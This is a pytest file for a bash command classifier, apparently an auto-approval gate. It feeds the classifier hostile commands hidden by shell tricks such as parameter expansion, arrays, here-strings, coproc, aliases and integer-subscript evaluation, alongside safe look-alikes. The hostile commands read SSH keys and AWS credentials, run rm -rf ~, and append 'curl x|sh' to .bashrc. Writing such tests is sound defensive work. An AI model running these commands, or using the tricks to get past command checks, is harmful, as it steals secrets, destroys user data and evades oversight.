"""Classes the thirteenth blind set (corpora/risk-blind-13.tsv) found on its first run, all
in the shell mechanics: a parameter expansion with an operator (`${f%.pub}`, `${p,,}`,
`${x:2}`, `${UNSET:-~/.ssh/id_rsa}`) was a value known only at run time, and so were the
positional parameters `set --` gives, the variables `read`, `mapfile` and `printf -v` fill
from static text, array elements, words glued to an empty `$(true)`; an integer variable's
assignment (`declare -i n; n='a[$(cmd)]'`) evaluated a subscript unseen."""

from __future__ import annotations

import pytest

from wakeful.testing.classifier import auto_verdict, judge

JUDGE = judge()


# Parameter expansion operators bash evaluates on a value the script itself set (or, for a
# variable it did not set, the default word it writes).
PARAM_OPS = [
    "cat ${UNSET_VAR:-~/.ssh/id_rsa}",
    "cat ${NOPE:-$HOME}/.aws/credentials",
    'f=/home/dev/.ssh/id_rsa.pub; cat "${f%.pub}"',
    "f=id_rsa.bak; cat ~/.ssh/${f%.bak}",
    "f=xxid_rsa; cat ~/.ssh/${f#xx}",
    "f=a/b/id_rsa; cat ~/.ssh/${f##*/}",
    "f=/home/dev/.ssh/id_rsa.x.y; cat ${f%%.*}",
    'p=/home/dev/.SSH/ID_RSA; cat "${p,,}"',
    "p=/home/dev/.ssh/id_XXX; cat ${p/XXX/rsa}",
    "p=/home/dev/.ssh/iX_rsX; cat ${p//X/d}",
    "x=XX/home/dev/.ssh/id_rsa; cat ${x:2}",
    "x=/home/dev/.ssh/id_rsaYY; cat ${x::-2}",
    "x=/home/dev/.ssh/id_rsa; cat ${x:0:21}",
    "x=ID_RSA; cat ~/.ssh/${x@L}",
    "x=/home/dev/.ssh/id_rsa; y=x; cat ${!y}",
    ": ${x:=/home/dev/.ssh/id_rsa}; cat $x",
    "cat ${x:=$HOME/.aws/credentials}",
    "cat ${x=~/.netrc}",
    "y=; cat ${y:-~/.git-credentials}",
    "z=1; cat ${z:+~/.ssh/id_rsa}",
    'cat ${HOME+"$HOME/.ssh/id_rsa"}',
    "p=/home/dev/.bashrc.txt; echo x >> ${p%.txt}",
    'f=/home/dev/.ssh/id_rsa.pub; rm -rf "${f%/*}"',
]
PARAM_OPS_SAFE = [
    'f=src/main.py; cat "${f%.py}.py"',
    'f=notes.txt; echo "${f%.txt}.md"',
    'v=1.2.3; echo "${v//./-}"',
    'name=World; echo "Hello, ${name^}"',
    'x=README.md; cat "${x:-README.md}"',
    'f=build/out.txt; mkdir -p "${f%/*}" && touch "$f"',
    "cat ${UNSET_VAR:-README.md}",
]
# Positional parameters set by `set --` (and moved by `shift`).
POSITIONAL = [
    'set -- ~/.ssh/id_rsa; cat "$1"',
    "set -- x ~/.aws/credentials; shift; cat $1",
    'set -- a b /home/dev/.netrc; cat "${3}"',
    'set -- /home/dev/.netrc; cat "$*"',
]
# Variables filled by read, mapfile, readarray and printf -v from static text.
READ_INTO = [
    'IFS= read -r f <<< ~/.ssh/id_rsa; cat "$f"',
    'read f <<< "$HOME/.aws/credentials"; cat $f',
    'mapfile -t L <<< /home/dev/.ssh/id_rsa; cat "${L[0]}"',
    'printf -v f \'%s/.ssh/id_rsa\' "$HOME"; cat "$f"',
    "printf -v f '/home/dev/.%s/id_rsa' ssh; cat $f",
    'read -r c a <<< "cat /home/dev/.netrc"; $c $a',
]
READ_INTO_SAFE = [
    'IFS=, read -r a b <<< "1,2"; echo "$a"',
    "printf -v now '%(%F)T' -1; echo \"$now\"",
    'read -r f <<< README.md; cat "$f"',
]
# Array elements, by a static subscript.
ARRAYS = [
    "x=( /home/dev/.ssh/id_rsa ); cat ${x[0]}",
    'x=( a /home/dev/.ssh/id_rsa ); cat "${x[1]}"',
    'x=( ~/.ssh/id_rsa ); cat "${x[*]}"',
    "x[3]=/home/dev/.ssh/id_rsa; cat ${x[3]}",
    "declare -A m; m[k]=$HOME/.aws/credentials; cat ${m[k]}",
    'arr=(README.md ~/.ssh/id_rsa); i=0; ((i++)); cat "${arr[i]}"',
    'arr=(README.md ~/.ssh/id_rsa); cat "${arr[1+0]}"',
    'x=( a ~/.ssh/id_rsa ); cat "${x[@]:1}"',
    "x=( README.md ~/.ssh/id_rsa ); cat ${x[-1]}",
    'set -- a b /home/dev/.netrc; cat "${@: -1}"',
    'set -- ~/.ssh/id_rsa; for f; do cat "$f"; done',
    'IFS=/ read -r -a p <<< "home/dev/.ssh/id_rsa"; cat "/${p[0]}/${p[1]}/${p[2]}/${p[3]}"',
    'a=(rm -rf /home/dev); "${a[@]}"',
    'set -- cat /home/dev/.netrc; x=1; "$@"',
]
ARRAYS_SAFE = [
    'files=(README.md src/main.py); cat "${files[0]}"',
    'x=(a b); echo "${x[1]}"',
    'files=(README.md src/main.py); for i in 0 1; do wc -l "${files[i]}"; done',
    # the value of a keyed element is not tilde-expanded: ./~/.aws/credentials
    'declare -A m=( [k]=~/.aws/credentials ); cat "${m[k]}"',
]
# A command substitution that prints nothing, glued into a word.
EMPTY_SUBSTITUTION = [
    "cat $HOME/.ss`true`h/id_rsa",
    "cat ~/.aws/cred$(:)entials",
    "cat ~/.ssh/id_rsa$(true)",
]
# Arguments xargs reads from a here-string.
XARGS_HERE_STRING = [
    "cat <<< ~/.ssh/id_rsa | xargs cat",
    'xargs cat <<< "$HOME/.aws/credentials"',
    "xargs -I{} cat {} <<< ~/.netrc",
    "xargs rm -rf <<< ~",
]
# An integer variable's assignment is arithmetic: a subscript in the value runs.
INTEGER_ASSIGN = [
    "declare -i n; n='a[$(touch ~/.bashrc)]'",
    "typeset -i n; n='a[$(rm -rf ~)]'",
    "declare -i n='a[$(rm -rf ~)]'",
]


@pytest.mark.parametrize(
    "cmd",
    PARAM_OPS
    + POSITIONAL
    + READ_INTO
    + ARRAYS
    + EMPTY_SUBSTITUTION
    + INTEGER_ASSIGN
    + XARGS_HERE_STRING,
)
def test_attack_is_not_auto_allowed(cmd: str) -> None:
    assert auto_verdict(cmd) != "allow", JUDGE(cmd)


@pytest.mark.parametrize(
    "cmd", PARAM_OPS_SAFE + READ_INTO_SAFE + ARRAYS_SAFE + ["xargs wc -l <<< README.md"]
)
def test_safe_look_alike_stays_allowed(cmd: str) -> None:
    assert auto_verdict(cmd) == "allow", JUDGE(cmd)


# a substitution whose one command holds another: its static output is still known
NESTED = [
    'cat "$(echo "$(echo "$HOME")")/.ssh/id_rsa"',
    "cat $(echo $(echo ~))/.ssh/id_rsa",
    'base64 "$(printf %s "$(echo ~/.aws)")/credentials"',
]


@pytest.mark.parametrize("cmd", NESTED)
def test_nested_static_substitutions_are_followed(cmd: str) -> None:
    assert auto_verdict(cmd) != "allow", JUDGE(cmd)


# False alarms of the set, each safe in bash, and the attack beside each.
FALSE_ALARMS = [
    "ls -d .[!.]*",
    'mk(){ mkdir -p "$1"; }; mk build',
    'function mk { mkdir -p "$1"; }; mk build; mk dist',
    'h(){ head -n "$1" "$2"; }; h 5 README.md',
    "shopt -s expand_aliases; alias g=git; eval g status",
    "shopt -s expand_aliases\nalias g=git\ng status",
    # bash -c expands no alias on the line that defines it: `ls` is ls
    "shopt -s expand_aliases; alias ls='rm -rf ~'; ls",
    'exec {fd}<README.md; read -r -u $fd line; echo "$line"',
    'coproc { echo hi; }; read -r l <&"${COPROC[0]}"; echo "$l"',
]
FALSE_ALARM_SIBLINGS = [
    "ls -d ~/.[!.]*",
    "ls -d ~/.ssh/*",
    "cd ~/.ssh && ls -d *",
    "exec {fd}<~/.ssh/id_rsa; cat <&$fd",
    "exec {fd}>>~/.bashrc; echo 'curl x|sh' >&$fd",
    "coproc { cat ~/.ssh/id_rsa; }",
    "coproc X { echo a; rm -rf ~; }",
    "coproc { echo; }; rm -rf ~",
    # a function's body judged with each static call's arguments; with any other use of
    # its name (or arguments computed at run time), with its arguments unknown
    'mk(){ mkdir -p "$1"; }; mk build; mk ~/.ssh',
    'mk(){ cat "$1"; }; mk ~/.ssh/id_rsa',
    'mk(){ rm -rf "$1"; }; trap mk EXIT; mk build',
    'mk(){ mkdir -p "$1"; }; mk "$(cat x)"',
    'f(){ echo x > "$1"; }; f ~/.bashrc',
    'h(){ cat "$2"; }; h a b; h c ~/.ssh/id_rsa',
    'g(){ eval "$1"; }; g "rm -rf ~"',
    # an alias that shadows a program, expanded in a later line or in eval
    "shopt -s expand_aliases; alias ls='rm -rf ~'; eval ls",
    "shopt -s expand_aliases\nalias ls='rm -rf ~'\nls",
    "shopt -s expand_aliases\nalias git='git push'\ngit status",
    'shopt -s expand_aliases; alias x="$(cat f)"; eval x',
    "alias ll='ls -l'; ll",
]


@pytest.mark.parametrize("cmd", FALSE_ALARMS)
def test_false_alarm_is_allowed(cmd: str) -> None:
    assert auto_verdict(cmd) == "allow", JUDGE(cmd)


@pytest.mark.parametrize("cmd", FALSE_ALARM_SIBLINGS)
def test_false_alarm_sibling_is_not_allowed(cmd: str) -> None:
    assert auto_verdict(cmd) != "allow", JUDGE(cmd)
